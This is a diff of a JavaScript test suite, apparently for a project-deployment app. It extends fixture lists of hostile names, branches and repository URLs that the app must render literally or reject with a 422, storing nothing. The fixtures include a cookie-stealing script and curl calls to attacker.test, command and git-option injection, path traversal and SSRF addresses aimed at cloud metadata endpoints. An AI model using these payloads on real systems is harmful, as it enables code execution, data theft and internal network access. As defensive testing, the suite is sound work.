@@ -20,22 +20,31 @@ const literalNames = [
   'proj%0atouch%20$CANARY',
   'proj{touch,$CANARY}',
   '<script>alert(1)</script>',
+  "<script>fetch('//attacker.test/'+document.cookie)</script>",
+  '<img src=x onerror=alert(1)>',
+  'javascript:alert(1)',
+  '<a href="javascript:alert(1)">x</a>',
+  '{{7*7}}',
+  '${7*7}',
+  "<iframe srcdoc='<script>alert(1)</script>'>",
+  '<math><mtext></mtext><style><img src=x onerror=alert(1)></style></math>',
+  '\u202e\u2066evil',
+  'a\u2028b',
+  '[x](javascript:alert(1))',
   "Robert'); drop table projects;--",
 ]
 
 const literalBranches = [
-  'main$(id)',
-  'main`id`',
-  'main${IFS}id',
-  'main|id',
-  'main&&id',
-  'main<x',
-  "main'id",
-  'a"b',
-  'é/ü',
+  ...['main;id', 'main$(id)', 'main`id`', 'main${IFS}id', 'main|id', 'main&&id', 'main<x', 'main>x', "main'id", 'a"b'],
+  ...['main#id', 'main%0aid', '"><img/src=x/onerror=alert(1)>', 'feat/#123', 'fix(scope)!', 'ümlaut/日本語'],
+  ...['rtl\u202egnp.exe', '@', 'main$(curl${IFS}attacker.test|sh)'],
 ]
 
-const refusedBranches = ['-x', '--upload-pack=touch', 'a..b', 'a b', 'a\nb', 'a~1', 'refs/heads/x.lock', '@', '']
+const refusedBranches = [
+  ...['--upload-pack=touch${IFS}$CANARY', '-oProxyCommand=touch $CANARY', '--exec=sh', '', 'main branch', 'a..b'],
+  ...['.hidden', 'main:id', 'main?x', 'main*x', 'main[x', 'main\\id', 'main\0x', 'main\nid', 'main\rid', 'a~1'],
+  ...['main\u001b[2J', '../../etc/passwd', '/abs', 'end/', '@{-1}', 'refs/heads/x.lock'],
+]
 
 const refusedDomains = [
   'example.com`) || PathPrefix(`/',
@@ -56,20 +65,38 @@ const refusedDomains = [
 ]
 
 const refusedAddresses = [
-  'ext::sh -c touch% x',
+  'EXT::sh -c touch% $CANARY',
   '/etc',
   './../..',
-  '-oProxyCommand=touch:x',
+  '-oProxyCommand=touch $CANARY:x',
   'http://example.com/x.git',
-  'git@github.com:user/repo.git;curl https://attacker.test/',
-  'https://github.com/o/r.git$(touch x)',
+  'git@github.com:user/repo.git;curl https://attacker.test/ -X POST --data `whoami`',
+  "https://github.com/user/repo.git';curl https://attacker.test/",
+  'https://github.com/o/r.git$(touch $CANARY)',
   'https://github.com/o/r.git\n--upload-pack=x',
+  'https:///example.com/foo.git',
   'https://one.example.com/evil?%0ahost=two.example.com',
+  'http://example.com:test/foo.git',
+  'https://github.com@evil.example/x.git',
+  'https://github.com\\@evil.example/x.git',
   'https://user:token@github.com/a/b.git',
   'https://[::1]/x.git',
   'https://0/x.git',
   'javascript:alert(1)',
   'https://a.example/'.repeat(3000),
+  'https://127.1/x.git',
+  'https://2130706433/x.git',
+  'https://0x7f000001/x.git',
+  'https://169.254.169.254/latest/meta-data/',
+  'https://169.254.169.254/latest/meta-data',
+  'https://metadata.google.internal/x',
+  'https://\u2460\u2461\u2466.0.0.1/x.git',
+  'https://10.0.0.5/x.git',
+  'https://192.168.1.1/x.git',
+  'https://172.17.0.1:2375/containers/json',
+  'https://100.100.100.200/x',
+  'https://[fd00::1]/x',
+  'ssh://git@127.0.0.1:22/x.git',
 ]
 
 describe.each(databases)('hostile projects and environments on $name', (source) => {
@@ -137,10 +164,22 @@ describe.each(databases)('hostile projects and environments on $name', (source) 
     expect(body.domain).toBe(`xn--bcher-kva.${project.domain}`)
   })
 
-  test.each(refusedAddresses)('the repository address %j is refused', async (repo_url) => {
-    const answer = await app.call('PATCH', `/api/projects/${project.id}`, { as: admin, body: { repo_url } })
-    expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: '/repo_url' }] } })
-  })
+  test.each(refusedAddresses)(
+    'the repository address %.60j is refused, and nothing is kept of it',
+    async (repo_url) => {
+      const { organization_id, serverId } = project
+      const made = { name: 'New', repo_url, domain: 'new.example.com', server_ids: [serverId], organization_id }
+      const answers = [
+        await app.call('PATCH', `/api/projects/${project.id}`, { as: admin, body: { repo_url } }),
+        await app.call('POST', '/api/projects', { as: admin, body: made }),
+      ]
+      for (const answer of answers) {
+        expect(answer).toMatchObject({ status: 422, body: { errors: [{ pointer: '/repo_url' }] } })
+      }
+      const kept = await app.ctx.db.selectFrom('projects').select('repo_url').execute()
+      expect(kept).toEqual([{ repo_url: project.repo_url }])
+    },
+  )
 
   test.each([
     ['username', 'user with : colon'],
